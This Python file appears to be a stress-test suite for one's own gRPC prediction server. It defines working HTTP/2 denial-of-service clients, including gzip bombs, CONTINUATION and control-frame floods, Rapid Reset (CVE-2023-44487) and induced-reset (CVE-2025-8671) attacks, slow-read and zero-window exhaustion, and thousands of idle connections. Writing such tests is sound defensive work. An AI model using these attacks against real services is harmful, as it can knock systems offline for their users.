"""What hostile clients do: `attacks.py NAME PORT SECONDS`. Each goes on for so long, beginning again with a new
connection wherever the server has cut one off; prints what it did."""

import gzip
import random
import resource
import struct
import time

from attack_run import CANCEL, main, repeat
from frames import (ACK, BATCH_PREDICT, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING,
                    PREDICT, PREDICT_REQUEST, PREFACE, PRIORITY, RST_STREAM, SETTINGS, STREAM_PREDICT, WINDOW_UPDATE,
                    batch_request, data_frames, frame, grpc_headers, literal, message, settings)


def gzip_bomb(run):
    """Messages of 256 kB that inflate to 256 MB, and some that inflate to just below the limit."""
    bombs = [gzip.compress(bytes(size)) for size in (256 << 20, (64 << 20) - 16)]
    run.begin()
    attackers = []
    while run.goes_on():
        while len(attackers) < 8 and (attacker := run.connect()):
            attackers.append(attacker)
        for attacker in list(attackers):
            stream = attacker.stream()
            body = message(bombs[stream // 2 % 2], compressed=True)
            head = frame(HEADERS, END_HEADERS, stream, grpc_headers(BATCH_PREDICT, grpc_encoding="gzip"))
            run.count("bombs")
            if not (attacker.send(head + data_frames(stream, body)) and attacker.skim()):
                attackers.remove(attacker)


def descriptors(run):
    """More connections than the server has descriptors for."""
    attackers = [run.connect() for _ in range(400)]
    run.hold([attacker for attacker in attackers if attacker])


def continuation_flood(run):
    """A header block without an end."""
    part = b"".join(literal(f"x-{number}", "y" * 100) for number in range(100))
    while run.goes_on():
        attacker = run.connect()
        if not attacker:
            continue
        attacker.send(frame(HEADERS, 0, 1, grpc_headers(PREDICT)))
        while run.goes_on() and attacker.send(frame(CONTINUATION, 0, 1, part)):
            run.count("continuations")
        attacker.close()


def empty_continuation_flood(run):
    """The same, in frames that carry nothing."""
    repeat(run, frame(HEADERS, 0, 1, grpc_headers(PREDICT)) + frame(CONTINUATION, 0, 1) * 1000, "chunks", read=False)


def rapid_reset(run):
    """Calls that are reset as soon as they are sent (CVE-2023-44487)."""
    headers = grpc_headers(PREDICT)
    body = message(PREDICT_REQUEST)
    while run.goes_on():
        attacker = run.connect()
        while attacker and run.goes_on():
            calls = b""
            for _ in range(100):
                stream = attacker.stream()
                calls += (frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, body) +
                          frame(RST_STREAM, 0, stream, CANCEL))
            if not attacker.send(calls) or not attacker.skim():
                break
            run.count("resets", 100)
        if attacker:
            attacker.close()


def made_resets(run):
    """Frames that make the server reset the calls (CVE-2025-8671): a window update of nothing."""
    headers = grpc_headers(STREAM_PREDICT)
    while run.goes_on():
        attacker = run.connect()
        while attacker and run.goes_on():
            calls = b""
            for _ in range(100):
                stream = attacker.stream()
                calls += frame(HEADERS, END_HEADERS, stream, headers) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
            if not attacker.send(calls) or not attacker.skim():
                break
            run.count("resets", 100)
        if attacker:
            attacker.close()


def settings_flood(run):
    repeat(run, settings((INITIAL_WINDOW_SIZE, 65535)) * 1000, "thousands", read=False)


def ping_flood(run):
    repeat(run, frame(PING, 0, 0, bytes(8)) * 1000, "thousands", read=False)


def ping_ack_flood(run):
    repeat(run, frame(PING, ACK, 0, bytes(8)) * 1000 + frame(SETTINGS, ACK) * 1000, "thousands", read=False)


def priority_flood(run):
    repeat(run, b"".join(frame(PRIORITY, 0, 2 * n + 1, struct.pack(">IB", 0, 1)) for n in range(1000)), "thousands")


def window_update_flood(run):
    repeat(run, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000, "thousands")


def empty_data_flood(run, headers=grpc_headers(STREAM_PREDICT)):
    head = frame(HEADERS, END_HEADERS, 1, headers)
    while run.goes_on():
        attacker = run.connect()
        while attacker and run.goes_on() and attacker.send(head + frame(DATA, 0, 1) * 1000) and attacker.skim():
            head = b""
            run.count("thousands")
        head = frame(HEADERS, END_HEADERS, 1, headers)
        if attacker:
            attacker.close()


def unknown_frames(run):
    """Kinds of frames that there are not."""
    repeat(run, frame(0xbe, 0, 0, bytes(16)) * 1000, "thousands")


def slow_header(run):
    """Headers a byte at a time, on 300 connections."""
    headers = frame(HEADERS, END_HEADERS | END_STREAM, 1, grpc_headers(PREDICT))
    attackers = [attacker for attacker in (run.connect() for _ in range(300)) if attacker]
    for byte in headers:
        for attacker in attackers:
            attacker.send(bytes([byte]))
        run.count("bytes")
        if not run.goes_on():
            return
        time.sleep(0.1)


def slow_body(run):
    """64 messages a byte at a time, on each of 50 connections."""
    attackers = [attacker for attacker in (run.connect() for _ in range(50)) if attacker]
    for attacker in attackers:
        attacker.send(b"".join(frame(HEADERS, END_HEADERS, stream, grpc_headers(PREDICT))
                               for stream in range(1, 128, 2)))
    for byte in message(PREDICT_REQUEST + bytes(1000)):
        for attacker in attackers:
            attacker.skim()
            attacker.send(b"".join(frame(DATA, 0, stream, bytes([byte])) for stream in range(1, 128, 2)))
        run.count("bytes")
        if not run.goes_on():
            return
        time.sleep(0.1)


def half_messages(run):
    """Large messages that are never complete: all that the windows take, and no more."""
    attackers = []
    body = message(bytes(60 << 20))
    while run.goes_on() and len(attackers) < 200:
        if attacker := run.connect():
            attackers.append(attacker)
            attacker.socket.settimeout(0.05)
            for stream in range(1, 64, 2):
                attacker.send(frame(HEADERS, END_HEADERS, stream, grpc_headers(BATCH_PREDICT)) +
                              data_frames(stream, body[:1 << 19], end=False))
                run.count("streams")
    run.hold(attackers)


def slow_reader(run):
    """Answers that nobody reads: batches of 10,000 rows, on sockets with small buffers."""
    body = message(batch_request(10000))
    attackers = []
    while run.goes_on() and len(attackers) < 100:
        if attacker := run.connect(receive_buffer=4096):
            attacker.socket.settimeout(0.2)
            attackers.append(attacker)
            while run.goes_on() and attacker.next_stream < 40:
                stream = attacker.stream()
                if not attacker.send(frame(HEADERS, END_HEADERS, stream, grpc_headers(BATCH_PREDICT)) +
                                     data_frames(stream, body)):
                    break
                run.count("calls")
    run.hold(attackers)


def large_answers(run):
    """Large answers for which there is no window: batches of 50,000 rows, two bytes each."""
    rows = b"\x0a\x00" * 50000
    body = message(b"\x22" + bytes([len(rows) & 127 | 128, len(rows) >> 7 & 127 | 128, len(rows) >> 14]) + rows)
    attackers = []
    while run.goes_on():
        if len(attackers) < 20 and (attacker := run.connect(settings_frame=settings((INITIAL_WINDOW_SIZE, 0)))):
            attackers.append(attacker)
            attacker.socket.settimeout(0.2)
        for attacker in attackers:
            stream = attacker.stream()
            attacker.send(frame(HEADERS, END_HEADERS, stream, grpc_headers(BATCH_PREDICT)) + data_frames(stream, body))
            attacker.skim()
            run.count("calls")
            if not run.goes_on():
                break


def closed_window(run):
    """Answers for which there is no window: a hundred thousand Predicts."""
    headers = grpc_headers(PREDICT)
    body = message(PREDICT_REQUEST)
    attackers = []
    while run.goes_on() and len(attackers) < 100:
        if attacker := run.connect(settings_frame=settings((INITIAL_WINDOW_SIZE, 0))):
            attackers.append(attacker)
            attacker.send(b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, body)
                                   for stream in range(1, 2000, 2)))
            attacker.skim()
            run.count("calls", 1000)
    run.hold(attackers)


def idle_streams(run):
    """4,000 streams that say nothing, and more on further connections."""
    attackers = []
    headers = grpc_headers(STREAM_PREDICT)
    while run.goes_on() and len(attackers) < 8:
        if attacker := run.connect():
            attackers.append(attacker)
            attacker.send(b"".join(frame(HEADERS, END_HEADERS, stream, headers) for stream in range(1, 2000, 2)))
            attacker.skim()
            run.count("streams", 1000)
    run.hold(attackers)


def large_headers(run):
    """Streams whose headers are as large as may be, and a few bytes on the wire (HPACK's table)."""
    attackers = []
    while run.goes_on() and len(attackers) < 50:
        if not (attacker := run.connect()):
            continue
        attackers.append(attacker)
        first = grpc_headers(STREAM_PREDICT) + literal("x", "y" * 3900, first=0x40, bits=6)
        later = grpc_headers(STREAM_PREDICT) + b"\xbe" * 3
        attacker.send(b"".join(frame(HEADERS, END_HEADERS, stream, first if stream == 1 else later)
                               for stream in range(1, 2000, 2)))
        attacker.skim()
        run.count("streams", 1000)
    run.hold(attackers)


def idle_connections(run):
    """5,000 connections that say nothing, each third not even that it speaks HTTP/2."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    attackers = []
    while run.goes_on() and len(attackers) < 5000:
        if attacker := run.connect(preface=len(attackers) % 3 != 0):
            attackers.append(attacker)
    run.hold(attackers)


def connection_churn(run):
    """Connections that come and go at once."""
    while run.goes_on():
        if attacker := run.connect():
            attacker.close()


def garbage(run):
    """Bytes that are no HTTP/2, before the preface or behind it."""
    source = random.Random(7)
    openings = [b"", PREFACE, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"]
    while run.goes_on():
        if attacker := run.connect(preface=False):
            attacker.send(source.choice(openings) + source.randbytes(source.randrange(1, 4096)))
            attacker.skim()
            attacker.close()


if __name__ == "__main__":
    main(globals())
